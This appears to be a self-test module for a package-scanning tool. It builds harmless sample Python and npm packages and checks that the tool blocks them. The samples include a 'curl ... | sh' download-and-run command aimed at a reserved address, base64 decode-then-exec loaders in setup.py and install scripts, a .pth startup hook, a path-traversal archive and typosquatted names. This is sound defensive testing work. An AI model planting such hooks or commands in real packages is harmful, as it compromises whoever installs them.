"""Proof that packages are opened, read and judged right, in the reading process that an installation uses.

The samples are harmless whoever runs them: what is hidden in them prints a word, and what they ask lies at addresses
that belong to nobody (https://www.rfc-editor.org/rfc/rfc5737, rfc6761).
"""

from __future__ import annotations

import base64
import os
import signal
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING

from gatekeeper import signatures
from gatekeeper.doctor import packages as make
from gatekeeper.doctor.checks import AGAIN
from gatekeeper.doctor.proof import Proof, broken
from gatekeeper.gate.options import Options
from gatekeeper.gate.reader import Reader
from gatekeeper.model import Release, Ruling, Verdict

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from gatekeeper.doctor.packages import Package
    from gatekeeper.doctor.proof import Ground

FETCHED = "curl -s http://192.0.2.1/x | sh"
HIDDEN_PYTHON = base64.b64encode(b"print('a sample')").decode()
HIDDEN_SCRIPT = base64.b64encode(b"console.log('a sample')").decode()
DECODED_PYTHON = f'import base64\nexec(base64.b64decode("{HIDDEN_PYTHON}").decode())\n'
DECODED_SCRIPT = (
    f'const text{{}} = Buffer.from("{HIDDEN_SCRIPT}", "base64").toString();\nnew Function("require", text)(require);\n'
)
LEFT_OPEN = "semgrep/python/own-cipher-runs.hit.py"  # the example of a rule: nothing else finds what it does
NAME = "gatekeeper-doctor-sample"
CYRILLIC_E = "\u0435"
WORKFLOW = b"on: push\njobs:\n  sample:\n    runs-on: any\n    steps:\n      - uses: actoins/checkout@v4\n"
LONG_NAME = 8  # letters, of a name that a slip does not turn into just any other


@dataclass(frozen=True, slots=True)
class Sample:
    """A package and what must come of it: its ruling, and a check that speaks of it."""

    what: str
    package: Package
    ruling: Ruling
    check: str | None = None


def samples() -> tuple[Sample, ...]:
    """Return one sample for each way in which packages are read."""
    block, allow = Ruling.BLOCK, Ruling.ALLOW
    act = f'import os\nos.system("{FETCHED}")\n'
    return (
        Sample("an honest wheel", wheel_of("VERSION = 1\n"), allow),
        Sample("an honest sdist", make.buildable(NAME, make.module(NAME)), allow),
        Sample("an honest npm package", make.npm(NAME, {}), allow),
        Sample("an sdist whose setup.py runs hidden code", setup(DECODED_PYTHON), block, "decode-then-exec"),
        Sample("a wheel with a .pth file that downloads", startup(), block, "pth-startup-code"),
        Sample("a module of Python 2", wheel_of(f"print 'old'\n{act}"), block, "command-pattern"),
        Sample("a module that does not parse", wheel_of(f"torn = = 1\n{act}"), allow, "not-fully-read"),
        Sample("an install script in shell", scripted({}, FETCHED), block, "download-then-run"),
        Sample("an install script in JavaScript", hidden("setup.js", ""), block, "decode-then-exec"),
        Sample("an install script in TypeScript", hidden("setup.ts", ": string"), block, "decode-then-exec"),
        Sample("code that only rules of structure find", wheel_of(signatures.text(LEFT_OPEN)), block, "deep-pattern"),
        Sample("an archive that writes outside of itself", outside(), Ruling.ERROR),
    )


def wheel_of(text: str) -> Package:
    """Return a wheel with one module of this text."""
    return make.wheel(NAME, make.module(NAME, text))


def setup(text: str) -> Package:
    """Return an sdist with this setup.py."""
    return make.sdist(NAME, {"setup.py": f"from setuptools import setup\n{text}setup()\n", **make.module(NAME)})


def startup() -> Package:
    """Return a wheel whose .pth file acts whenever Python starts."""
    return make.wheel(NAME, {**make.module(NAME), "sample.pth": f"import os; os.system('{FETCHED}')\n"})


def scripted(files: dict[str, str], line: str) -> Package:
    """Return an npm package that runs a line when it is installed."""
    return make.npm(NAME, files, scripts={"postinstall": line})


def hidden(file: str, kind: str) -> Package:
    """Return an npm package whose install script runs hidden code; `kind` is the type that it declares."""
    return scripted({file: DECODED_SCRIPT.format(kind)}, f"node {file}")


def outside() -> Package:
    """Return a wheel with a file that would lie outside of where it is installed."""
    return make.wheel(NAME, {**make.module(NAME), "../../outside.py": "OUTSIDE = 1\n"})


def prove_reading(ground: Ground) -> Iterator[Proof]:
    """Have the reading process judge each sample, and a misspelt name, as it does during an installation."""
    wanted = samples()
    with Reader(Options(store=False)) as reader:
        verdicts = [judged(reader, one, ground.folder("samples", str(at))) for at, one in enumerate(wanted)]
        for sample, verdict in zip(wanted, reader.deepen(verdicts), strict=True):
            wrong = fault_of(sample, verdict)
            yield broken(sample.what, wrong, AGAIN) if wrong else Proof(sample.what, detail=told(sample))
        for ecosystem in signatures.FORMS:
            yield prove_name(reader, ecosystem)
            yield prove_letters(reader, ecosystem)
        yield prove_workflow(reader)
        yield prove_replacement(reader, wanted[0], ground.folder("samples", "replaced"))


def judged(reader: Reader, sample: Sample, folder: Path) -> Verdict:
    """Have one sample judged."""
    package = sample.package
    blank = Verdict(Release(package.ecosystem, package.name, make.VERSION), Ruling.ERROR)
    path = package.write(folder)
    try:
        return reader.judge_artifact(path, blank, package.filename, package.sha256, later=True)[0]
    except Exception as problem:  # noqa: BLE001 - whatever goes wrong over one sample, the others are tried
        return replace(blank, error=f"{type(problem).__name__}: {problem}")


def fault_of(sample: Sample, verdict: Verdict) -> str:
    """Say in which way a verdict is not what the sample must come to; empty when it is."""
    found = {one.check for one in verdict.findings}
    if verdict.ruling is not sample.ruling:
        why = f": {verdict.error}" if verdict.error else f", found {', '.join(sorted(found)) or 'nothing'}"
        return f"came to {verdict.ruling.word} and not to {sample.ruling.word}{why}"
    return f"{sample.check} says nothing of it" if sample.check and sample.check not in found else ""


def told(sample: Sample) -> str:
    """Say what a sample came to."""
    words = {Ruling.ALLOW: "allowed", Ruling.BLOCK: "blocked", Ruling.ERROR: "refused as unreadable"}
    return words[sample.ruling] + (f", {sample.check} speaks" if sample.check else "")


def prove_name(reader: Reader, ecosystem: str) -> Proof:
    """Misspell a much-used name: the list of names must know what was meant."""
    _, slip = misspelt(ecosystem)
    return heard(
        f"a misspelt {ecosystem} name", reader.judge_name(Release(ecosystem, slip), requested=True), "typosquat", slip
    )


def prove_letters(reader: Reader, ecosystem: str) -> Proof:
    """Spell a much-used name with a letter of another alphabet: the list of look-alikes must know it."""
    name = next(each for each in names_of(ecosystem) if "e" in each)
    verdict = reader.judge_name(Release(ecosystem, name.replace("e", CYRILLIC_E, 1)), requested=True)
    return heard(f"a {ecosystem} name with a foreign letter", verdict, "confusable-name", name)


def prove_workflow(reader: Reader) -> Proof:
    """Bring a workflow with an action of somebody who looks like another: the list of owners must know them."""
    verdict = reader.judge_workflow(".github/workflows/sample.yml", WORKFLOW, ())
    return heard("a workflow file with a look-alike action", verdict, "lookalike-action", "actoins/checkout")


def prove_replacement(reader: Reader, honest: Sample, folder: Path) -> Proof:
    """End the process that reads: nothing may come of what it was asked, and another one must go on."""
    os.kill(reader.pids[0], signal.SIGTERM)
    lost, found = judged(reader, honest, folder), judged(reader, honest, folder)
    what, wrong = "a reading process that dies", fault_of(honest, found)
    if lost.ruling is not Ruling.ERROR:
        return broken(what, f"the file that it was asked about came to {lost.ruling.word}", AGAIN)
    if wrong:
        return broken(
            what, f"is not replaced: {wrong}", "packages are refused from the first that breaks the reader on"
        )
    return Proof(what, detail="its file is refused as undecided, the next one is read by another process")


def heard(what: str, verdict: Verdict, check: str, sample: str) -> Proof:
    """Return the proof that a check says something in a verdict."""
    if check in {one.check for one in verdict.findings}:
        return Proof(what, detail=f"{check} speaks")
    return broken(what, f"{check} says nothing of {sample}", AGAIN)


def names_of(ecosystem: str) -> list[str]:
    """Return the much-used names, the most used first."""
    return [line for line in signatures.names_text(ecosystem).splitlines() if not line.startswith("#")]


def misspelt(ecosystem: str) -> tuple[str, str]:
    """Return the most used name that two letters can change places in, and what comes of it."""
    names = names_of(ecosystem)
    known = set(names)
    for name in (each for each in names if len(each) >= LONG_NAME and each.isalpha()):
        slip = name[:3] + name[4:5] + name[3:4] + name[5:]
        if slip not in known:
            return name, slip
    raise ValueError(f"no name on the list of {ecosystem} can be misspelt")
